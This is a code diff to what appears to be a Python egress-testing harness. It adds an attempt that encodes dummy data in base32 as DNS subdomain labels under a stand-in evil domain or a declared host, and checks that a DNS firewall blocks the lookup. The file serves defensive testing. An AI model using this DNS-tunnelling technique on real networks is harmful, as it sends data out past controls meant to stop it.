@@ -121,6 +121,25 @@ def _over_tcp(message: str) -> str:
     return f"{chr(len(message) >> 8)}{chr(len(message) & 255)}{message}"
 
 
+_SECRET = base64.b32encode(b"INV-2041 1250.00 EUR").decode().lower().rstrip("=")
+
+
+def _asked(ground: Ground, member: Member, name: str, kind: int, *, tcp: bool) -> Shot:
+    """A question to the cluster's own DNS."""
+    message = query(name, kind)
+    text = _over_tcp(message) if tcp else message
+    return raw(place_of(member), ground.dns_service, 53, text, said=f"DNS: {name}", udp=not tcp)
+
+
+def _below_declared(ground: Ground) -> list[Shot]:
+    """What is to leave, as a name below a host that is declared."""
+    member = sender(ground)
+    declared = declared_host(member) if member else None
+    if member is None or declared is None or not ground.dns_service:
+        return []
+    return [_asked(ground, member, f"{_SECRET}.{declared.host}", kind, tcp=False) for kind in (1, 16)]
+
+
 def _tunnel(kind: int, *, tcp: bool = False) -> Callable[[Ground], list[Shot]]:
     """What is to leave, as a name below somebody's domain, asked of the cluster's own DNS."""
 
@@ -128,17 +147,9 @@ def _tunnel(kind: int, *, tcp: bool = False) -> Callable[[Ground], list[Shot]]:
         member = sender(ground)
         if member is None or not ground.dns_service:
             return []
-        secret = base64.b32encode(b"INV-2041 1250.00 EUR").decode().lower().rstrip("=")
-        message = query(f"{secret}.{_EVIL}", kind)
-        text = _over_tcp(message) if tcp else message
         # Beside it a name that exists: whether the other was passed on, only the one who answers for it knows.
-        named = undeclared_host(ground.stack)
-        plain = query(named, kind)
-        return [
-            raw(place_of(member), ground.dns_service, 53, text, said=f"DNS: {secret}.{_EVIL}", udp=not tcp),
-            raw(place_of(member), ground.dns_service, 53, _over_tcp(plain) if tcp else plain, said=f"DNS: {named}",
-                udp=not tcp),
-        ]  # fmt: skip
+        names = (f"{_SECRET}.{_EVIL}", undeclared_host(ground.stack))
+        return [_asked(ground, member, name, kind, tcp=tcp) for name in names]
 
     return steps
 
@@ -279,4 +290,7 @@ ATTEMPTS: tuple[Attempt, ...] = (
          "may have.", _OUT, "sidecar", _tunnelled),
     _row(728, "HTTP/2 to an address", "A request over HTTP/2 in plaintext to an address outside.", _OUT, "sidecar",
          _sent(80, _H2, said="HTTP/2 with prior knowledge")),
+    _row(729, "DNS as a way out, below a declared host", "Asks the cluster's DNS for names below a declared host that "
+         "carry what is to leave (A, TXT).", "The name is not looked up.", "DNS firewall", _below_declared,
+         judging.no_lookup),
 )  # fmt: skip
